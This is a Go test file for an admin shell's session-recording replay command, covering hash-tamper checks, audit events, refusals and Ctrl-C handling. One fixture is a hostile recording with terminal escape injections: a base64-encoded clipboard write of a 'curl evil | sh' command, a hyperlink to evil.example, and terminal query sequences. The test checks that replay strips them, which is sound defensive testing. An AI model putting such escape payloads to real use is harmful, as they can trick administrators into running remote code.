package adminshell

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rampart-ssh/rampart/raftstore"
)

// fakeRecordings serves recordings by session id, as the node would from its
// disk or another node's.
type fakeRecordings struct {
	mu     sync.Mutex
	files  map[string]string
	opened []string
	err    error
}

func (f *fakeRecordings) Open(_ context.Context, s *raftstore.Session) (io.ReadCloser, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.opened = append(f.opened, s.Node+":"+s.RecordingPath)
	if f.err != nil {
		return nil, f.err
	}
	data, ok := f.files[s.ID]
	if !ok {
		return nil, errors.New("no such file")
	}
	return io.NopCloser(strings.NewReader(data)), nil
}

// castFile is a short recording: two output events around typed input (not
// replayed), one with a bare line feed.
const castFile = `{"version":2,"width":80,"height":24,"timestamp":1772366400}
[0.1,"o","$ echo hi\r\n"]
[0.2,"i","typed-secret"]
[0.3,"o","hi\r\nline-a\nline-b"]
`

func sha256Hex(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// recordedSession adds a closed session of bob's carried by node, whose
// recording raft says hashes to what was recorded.
func recordedSession(h *harness, id, node, data string) {
	h.t.Helper()
	h.apply(&raftstore.SessionOpen{Session: raftstore.Session{ID: id, UserID: "sub-bob", Login: "bob",
		ServerID: "srv-web-1", Project: "web", Node: node, Start: h.now.Add(-5 * time.Minute)}})
	h.apply(&raftstore.SessionClose{ID: id, End: h.now.Add(-4 * time.Minute), EndReason: "client closed",
		RecordingSHA256: sha256Hex(data), RecordingPath: "2026-03-01/" + id + ".cast"})
}

func newReplayHarness(t *testing.T) (*harness, *fakeRecordings) {
	h := newHarness(t)
	recs := &fakeRecordings{files: map[string]string{"sess-cccc3333": castFile}}
	h.sh.recordings = recs
	recordedSession(h, "sess-cccc3333", "n2", castFile)
	return h, recs
}

func TestSessionsReplay(t *testing.T) {
	h, recs := newReplayHarness(t)

	out := h.mustRun("sessions", "replay", "sess-cccc", "--speed", "0")
	want := "$ echo hi\r\nhi\r\nline-a\nline-b" + terminalReset + "\nend of session sess-cccc3333\n"
	if out != want {
		t.Errorf("replay output\n got %q\nwant %q", out, want)
	}
	if strings.Contains(out, "typed-secret") {
		t.Error("replay showed typed input")
	}
	if len(recs.opened) != 1 || recs.opened[0] != "n2:2026-03-01/sess-cccc3333.cast" {
		t.Errorf("opened %v", recs.opened)
	}
	ev := h.lastAudit()
	if ev.Type != "recording.replay" || ev.Actor != "alice" || ev.Fields["session"] != "sess-cccc3333" || ev.Fields["node"] != "n2" ||
		ev.Fields["sha256"] != sha256Hex(castFile) || ev.Fields["refused"] != "" {
		t.Errorf("replay audit %+v", ev)
	}

	// --cast writes the verified file itself.
	if got := h.mustRun("sessions", "replay", "sess-cccc3333", "--cast"); got != castFile {
		t.Errorf("--cast wrote %q", got)
	}

	// Real-time pauses are honoured: 0.3s of recording at speed 3 takes
	// about 0.1s, and --max-wait caps them.
	start := time.Now()
	h.mustRun("sessions", "replay", "sess-cccc3333", "--speed", "3")
	if d := time.Since(start); d < 80*time.Millisecond {
		t.Errorf("replay at speed 3 took %s, want about 100ms", d)
	}
}

func TestSessionsReplayRefusals(t *testing.T) {
	h, recs := newReplayHarness(t)
	recordedSession(h, "sess-dddd4444", "n1", castFile)
	// The file on the node was edited after the session closed.
	recs.files["sess-dddd4444"] = strings.Replace(castFile, "hi", "ho", 1)
	h.apply(&raftstore.SessionOpen{Session: raftstore.Session{ID: "sess-eeee5555", UserID: "sub-bob", Login: "bob",
		ServerID: "srv-web-1", Project: "web", Node: "n1", Start: h.now}})
	h.apply(&raftstore.SessionOpen{Session: raftstore.Session{ID: "sess-ffff6666", UserID: "sub-bob", Login: "bob",
		ServerID: "srv-web-1", Project: "web", Node: "n1", Start: h.now}})
	h.apply(&raftstore.SessionClose{ID: "sess-ffff6666", End: h.now, RecordingSHA256: sha256Hex("x")})

	tests := []struct {
		name string
		args []string
		code int
		want string
	}{
		{"fail/tampered", []string{"sessions", "replay", "sess-dddd4444", "--speed", "0"}, ExitError,
			"session sess-dddd4444 (on node n1): the recording does not match the SHA-256 recorded when the session closed"},
		{"fail/still-running", []string{"sessions", "replay", "sess-eeee5555"}, ExitError, "is still running"},
		{"fail/not-recorded", []string{"sessions", "replay", "sess-bbbb2222"}, ExitError, "was not recorded"},
		{"fail/path-unknown", []string{"sessions", "replay", "sess-ffff6666"}, ExitError, "does not know where node n1 keeps its recording"},
		{"fail/missing-session", []string{"sessions", "replay", "sess-9999"}, ExitError, `session "sess-9999": not found`},
		{"fail/negative-speed", []string{"sessions", "replay", "sess-cccc3333", "--speed", "-1"}, ExitUsage, "--speed -1"},
		{"fail/bad-speed", []string{"sessions", "replay", "sess-cccc3333", "--speed", "fast"}, ExitUsage, `invalid argument "fast"`},
		{"fail/json", []string{"sessions", "replay", "sess-cccc3333", "--json"}, ExitUsage, "--json and --quiet do not apply"},
		{"fail/no-session-arg", []string{"sessions", "replay"}, ExitUsage, "sessions replay takes SESSION"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			before := len(h.auditEvents())
			r := h.run(tc.args...)
			if r.code != tc.code || !strings.Contains(r.stderr, tc.want) {
				t.Fatalf("want exit %d and %q: %s", tc.code, tc.want, r)
			}
			if r.stdout != "" {
				t.Errorf("refused replay wrote %q", r.stdout)
			}
			if tc.name == "fail/tampered" {
				ev := h.lastAudit()
				if len(h.auditEvents()) != before+1 || ev.Fields["refused"] != "sha256 mismatch" || ev.Fields["session"] != "sess-dddd4444" {
					t.Errorf("tampered replay audit %+v", ev)
				}
			} else if len(h.auditEvents()) != before {
				t.Errorf("refused replay was audited")
			}
		})
	}

	// Nobody watches a recording unaudited.
	h.store.failAudit(true)
	if r := h.run("sessions", "replay", "sess-cccc3333", "--speed", "0"); r.code != ExitError || r.stdout != "" ||
		!strings.Contains(r.stderr, "replay refused: its audit event could not be written") {
		t.Errorf("replay without audit: %s", r)
	}
	h.store.failAudit(false)

	recs.err = errors.New("node n2 at 127.0.0.2:8443: connection refused")
	if r := h.run("sessions", "replay", "sess-cccc3333"); r.code != ExitError || !strings.Contains(r.stderr, "read the recording of session sess-cccc3333 from node n2: node n2 at 127.0.0.2:8443: connection refused") {
		t.Errorf("unreachable node: %s", r)
	}
	h.sh.recordings = nil
	if r := h.run("sessions", "replay", "sess-cccc3333"); r.code != ExitError || !strings.Contains(r.stderr, "cannot read recordings") {
		t.Errorf("no recordings hook: %s", r)
	}
}

// Interactively the recording reaches the terminal untouched (a bare line
// feed stays one), and Ctrl-C stops a replay in the middle of a long pause.
func TestInteractiveReplay(t *testing.T) {
	h, recs := newReplayHarness(t)
	long := castFile + `[3600.5,"o","an hour later"]` + "\n"
	recordedSession(h, "sess-abcd7777", "n1", long)
	recs.files["sess-abcd7777"] = long

	s := startTerm(t, h)
	s.expect(Prompt)
	out := s.line("sessions replay sess-cccc3333 --speed 0")
	if !strings.Contains(out, "hi\r\nline-a\nline-b") || !strings.Contains(out, "end of session sess-cccc3333") {
		t.Errorf("interactive replay:\n%q", out)
	}

	s.typ("sessions replay sess-abcd7777\r")
	s.expect("Ctrl-C stops")
	s.expect("line-b")
	// An hour's pause: only Ctrl-C ends it within expect's deadline.
	s.typ("x\x03")
	s.expect("replay of session sess-abcd7777 stopped")
	s.expect(Prompt)
	// The keys typed during the replay went nowhere; the shell goes on.
	out = s.line("whoami")
	if !strings.Contains(out, "sub-alice") || strings.Contains(out, "an hour later") {
		t.Errorf("after Ctrl-C:\n%q", out)
	}
	s.typ("exit\r")
	if code := s.exit(); code != ExitOK {
		t.Errorf("exit %d", code)
	}
}

// What the recorded person planted in their output draws on the admin's
// terminal but never acts on it; --cast stays byte-exact. A recording larger
// than the node's bound is refused before it is copied whole.
func TestSessionsReplayHostileAndLarge(t *testing.T) {
	h, recs := newReplayHarness(t)
	hostile := `{"version":2,"width":80,"height":24,"timestamp":1772366400}
[0.1,"o","\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\"]
[0.2,"o","\u001bP$qm\u001b\\\u001b[6n\u001b[c\u001b[1mbold\u001b[0m\r\n"]
`
	recs.files["sess-gggg7777"] = hostile
	recordedSession(h, "sess-gggg7777", "n2", hostile)

	out := h.mustRun("sessions", "replay", "sess-gggg7777", "--speed", "0")
	want := "click\x1b[1mbold\x1b[0m\r\n" + terminalReset + "\nend of session sess-gggg7777\n"
	if out != want {
		t.Errorf("replay of a hostile recording\n got %q\nwant %q", out, want)
	}
	if got := h.mustRun("sessions", "replay", "sess-gggg7777", "--cast"); got != hostile {
		t.Errorf("--cast is not byte-exact: %q", got)
	}

	h.sh.maxRecording = int64(len(castFile) - 1)
	before := len(h.auditEvents())
	r := h.run("sessions", "replay", "sess-cccc3333", "--speed", "0")
	if r.code != ExitError || r.stdout != "" || !strings.Contains(r.stderr, "larger than this node replays") {
		t.Fatalf("oversized recording: %s", r)
	}
	if len(h.auditEvents()) != before {
		t.Error("a refused oversized replay was audited")
	}
	h.sh.maxRecording = int64(len(castFile))
	h.mustRun("sessions", "replay", "sess-cccc3333", "--speed", "0")
}
